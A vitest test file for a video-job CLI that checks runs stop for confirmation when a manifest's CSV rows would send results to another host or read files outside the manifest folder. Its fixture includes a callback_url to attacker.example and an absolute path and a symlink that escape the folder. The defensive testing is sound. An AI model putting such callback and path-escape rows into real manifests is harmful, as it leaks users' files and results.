// A manifest or table from someone else must not send files and results elsewhere silently: a CSV
// row with a callback_url to another host, a row naming an absolute path outside the manifest's
// folder, and a symlink inside it that leads out. The estimate is under $1, so before, nothing
// asked; now `run` wants --yes or a terminal's yes whatever the cost, and plan and validate say it.
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CliIO } from '../src/cli/io.js';
import { main } from '../src/cli/run-cli.js';
import type { EmulatorHandle } from '../src/emulator/index.js';
import { planSchema } from '../src/plan/schema.js';
import { runInProcess, STACK_FRAME } from './helpers/bad-input.js';
import { emulator } from './helpers/emulator.js';
import { png, tempTree } from './helpers/manifest.js';

const KEY = { COMETAPI_KEY: 'emulator-key' };

/**
 * jobs/m.yaml reads jobs/rows.csv: row 1 a local image and a callback to attacker.example, row 2
 * an absolute path to a file of another folder, row 3 a link in jobs/ to a file of that folder.
 * Three kling-v2-6 std 5 s jobs, sound off: $0.63, under the $1 a run without a terminal asks at.
 */
function project(): { dir: string; secret: string; linked: string } {
  const elsewhere = tempTree({ 'secret.png': png(2), 'linked.png': png(3) });
  const [secret, linked] = [join(elsewhere, 'secret.png'), join(elsewhere, 'linked.png')];
  const dir = tempTree({
    'jobs/m.yaml': `version: 1\nname: m\nid_salt: "${Math.random()}"\ndefaults: { model_name: kling-v2-6, mode: std, duration: 5, sound: "off" }\njobs:\n  - from: rows.csv\n`,
    'jobs/rows.csv': `image,prompt,callback_url\na.png,one,https://attacker.example/hook\n${secret},two,\nlink.png,three,\n`,
    'jobs/a.png': png(1),
  });
  symlinkSync(linked, join(dir, 'jobs', 'link.png'));
  return { dir, secret, linked };
}

const requests = (emu: EmulatorHandle) => Object.values(emu.stats().requestsByRoute).reduce((a, b) => a + b, 0);

const runArgs = (emu: EmulatorHandle, ...extra: string[]) => ['run', 'jobs/m.yaml', '--base-url', emu.url, '--poll-interval', '0.05', '--rpm', '6000', '--output', 'out', ...extra];

describe('klingrun run, when the jobs send more than their API calls', () => {
  it('without a terminal and without --yes: exit 2 before any request, one paragraph naming the host and the files', async () => {
    const { dir, secret, linked } = project();
    const emu = await emulator({ timeScale: 0.002 });
    const result = await runInProcess(runArgs(emu), dir, KEY);
    expect(result.code, result.stderr).toBe(2);
    expect(requests(emu)).toBe(0);
    expect(emu.stats().tasksCreated).toBe(0);
    expect(result.stderr).not.toMatch(STACK_FRAME);
    const error = result.stderr.slice(result.stderr.indexOf('error: '));
    expect(error).toBe(
      `error: Besides its API calls, this run sends data elsewhere. The provider will POST each task's updates, video URLs included, to attacker.example (1 job), as callback_url asks. ` +
        `2 local files outside the manifest's folder (jobs/) will be read and sent to the provider: ${secret}, link.png (a link to ${linked}). ` +
        'There is no terminal to confirm on: check that the manifest and its tables mean to send these, then add --yes to go ahead. Nothing was submitted.\n',
    );
  });

  it('with --yes: it runs, and notes what it sent', async () => {
    const { dir } = project();
    const emu = await emulator({ timeScale: 0.002 });
    const result = await runInProcess(runArgs(emu, '--yes'), dir, KEY);
    expect(result.code, result.stderr).toBe(0);
    expect(emu.stats().tasksCreated).toBe(3);
    expect(result.stderr).toContain('note: Besides its API calls, this run sends data elsewhere. The provider will POST');
  });

  it('on a terminal: the question lists the host and the files, whatever the cost; no means nothing is sent', async () => {
    const { dir, secret } = project();
    const emu = await emulator({ timeScale: 0.002 });
    const questions: string[] = [];
    let stderr = '';
    const io: CliIO = {
      stdout: () => {},
      stderr: (text) => void (stderr += text),
      env: KEY,
      cwd: dir,
      isTTY: true,
      confirm: async (question) => (questions.push(question), false),
      signal: new AbortController().signal,
    };
    expect(await main(runArgs(emu), io)).toBe(0);
    expect(questions).toHaveLength(1);
    expect(questions[0]).toMatch(/^Besides its API calls, this run sends data elsewhere\. .*attacker\.example \(1 job\).*\n/);
    expect(questions[0]).toContain(`2 local files outside the manifest's folder (jobs/) will be read and sent to the provider: ${secret}, link.png (a link to `);
    expect(questions[0]).toMatch(/\nSubmit 3 job\(s\) \(about \$0\.63, 1–5 min\) \(this folder has no record of earlier runs; see the note above\)\?$/);
    expect(stderr).toContain('Not submitted: you answered no. Nothing was sent or paid.');
    // Before asking, the run may look up (free, sending only ids) whether the provider already holds these jobs.
    const { get, ...others } = emu.stats().requestsByRoute;
    expect(get).toBeLessThanOrEqual(3);
    expect(Object.values(others).reduce((a, b) => a + b, 0)).toBe(0);
  });
});

describe('klingrun plan and validate say what the jobs send besides their API calls', () => {
  it('plan: a warning per kind, also with --json, whose stdout stays the plan alone', async () => {
    const { dir, secret, linked } = project();
    const text = await runInProcess(['plan', 'jobs/m.yaml'], dir);
    expect(text.code).toBe(0);
    expect(text.stderr).toContain("warning: jobs/m.yaml: The provider will POST each task's updates, video URLs included, to attacker.example (1 job), as callback_url asks.\n");
    expect(text.stderr).toContain(`warning: jobs/m.yaml: 2 local files outside the manifest's folder (jobs/) will be read and sent to the provider: ${secret}, link.png (a link to ${linked}).\n`);

    // The plan's bytes are the same on any machine: this machine's real paths stay out of them.
    const json = await runInProcess(['plan', 'jobs/m.yaml', '--json'], dir);
    expect(json.code).toBe(0);
    expect(planSchema.parse(JSON.parse(json.stdout)).jobs).toHaveLength(3);
    expect(json.stdout).not.toContain(secret);
    expect(json.stderr).toBe(text.stderr.split('\n').filter((line) => line.startsWith('warning: ')).map((line) => `${line}\n`).join(''));
  });

  it('validate: the same warnings, and still exit 0', async () => {
    const { dir, secret } = project();
    const result = await runInProcess(['validate', 'jobs/m.yaml'], dir);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('jobs/m.yaml: valid, 3 jobs from 1 entry (3 images, 1 variant)\n');
    expect(result.stderr.split('\n').filter((line) => line.startsWith('warning: jobs/m.yaml: '))).toHaveLength(2);
    expect(result.stderr).toContain('attacker.example (1 job)');
    expect(result.stderr).toContain(`${secret}, link.png (a link to `);
  });
});
